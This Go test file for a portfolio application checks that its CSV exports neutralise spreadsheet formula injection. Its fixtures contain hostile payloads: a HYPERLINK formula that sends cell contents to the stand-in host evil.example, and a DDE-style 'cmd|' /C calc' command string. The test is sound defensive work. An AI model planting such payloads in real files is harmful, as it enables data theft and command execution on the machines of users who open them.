package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"

	"github.com/foliosight/foliosight/internal/service"
	"github.com/foliosight/foliosight/internal/store"
)

var plainNumber = regexp.MustCompile(`^[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?$`)

// TestNoTableHoldsAFormula books what a hostile file could bring and opens every table
// that the pages write: no cell that is text begins a formula.
func TestNoTableHoldsAFormula(t *testing.T) {
	h := realPages(t)
	portfolio := h.portfolios["long/short"]
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"pay")`
	rows := "date,account,type,symbol,quantity,price,amount,currency,note\n" +
		"2026-11-18,@desk,deposit,,,,1000,USD,\"" + strings.ReplaceAll(evil, `"`, `""`) + "\"\n" +
		"2026-11-18,@desk,buy,MSFT,1,400,,USD,-1+cmd|' /C calc'!A0\n"
	file := service.File{Name: "evil.csv", Content: []byte(rows)}
	if _, err := h.svc.CommitImport(context.Background(), h.caller, portfolio, file, service.ImportOptions{Expected: store.AnyVersion, SkipRefused: true}); err != nil {
		t.Fatal(err)
	}
	seen := ""
	for _, address := range []string{"/holdings.csv", "/transactions.csv", "/scenarios.csv", "/what-if/orders.csv?t=sell+12+NVDA+fee+1.3",
		"/charts/value.csv", "/charts/contribution.csv", "/income.csv", "/income.csv?by=month", "/income.csv?by=payment"} {
		w := h.open(address, nil)
		if w.Code != http.StatusOK || !strings.HasPrefix(w.Header().Get("Content-Type"), "text/csv") {
			t.Errorf("%s: %d %s", address, w.Code, w.Header().Get("Content-Type"))
			continue
		}
		seen += formulas(t, address, w.Body.String())
	}
	seen += formulas(t, "refused.csv", h.refused(t, "date,account,type,symbol,quantity,price,amount,currency,note\n=1+1,desk,buy,MSFT,x,400,,USD,a\n2026-11-18,desk,buy,MSFT,@x,400,,USD,b\n2026-11-18,desk,deposit,,,,10,USD,c\n"))
	for _, want := range []string{"'=1+1", "'@x", "'" + evil, "'@desk", "'-1+cmd"} {
		if !strings.Contains(seen, want) {
			t.Errorf("%s is in no table: nothing was tried", want)
		}
	}
}

// refused uploads a file and returns the table of what it cannot book.
func (h *realHouse) refused(t *testing.T, content string) string {
	t.Helper()
	var body bytes.Buffer
	form := multipart.NewWriter(&body)
	part, err := form.CreateFormFile("file", "evil.csv")
	if err != nil {
		t.Fatal(err)
	}
	_, _ = part.Write([]byte(content)) // a buffer takes everything
	_ = form.Close()
	r := httptest.NewRequest(http.MethodPost, "/p/"+h.portfolios["long/short"]+"/import", &body)
	r.Header.Set("Content-Type", form.FormDataContentType())
	r.AddCookie(&http.Cookie{Name: "foliosight", Value: h.token})
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	_, draft, found := strings.Cut(w.Header().Get("Location"), "/import/")
	if w.Code != http.StatusSeeOther || !found {
		t.Fatalf("the upload: %d %s", w.Code, words(w))
	}
	return h.open("/import/"+draft+"/refused.csv", nil).Body.String()
}

// formulas fails for cells that are formulas; it returns the text of all cells.
func formulas(t *testing.T, where, table string) string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(table)).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Errorf("%s: %d rows, %v", where, len(rows), err)
	}
	all := ""
	for _, row := range rows {
		for _, cell := range row {
			all += cell + "\n"
			if start := strings.TrimLeft(cell, " "); start != "" && strings.ContainsRune("=+-@\t\r", rune(start[0])) && !plainNumber.MatchString(cell) {
				t.Errorf("%s: the cell %q is a formula", where, cell)
			}
		}
	}
	return all
}
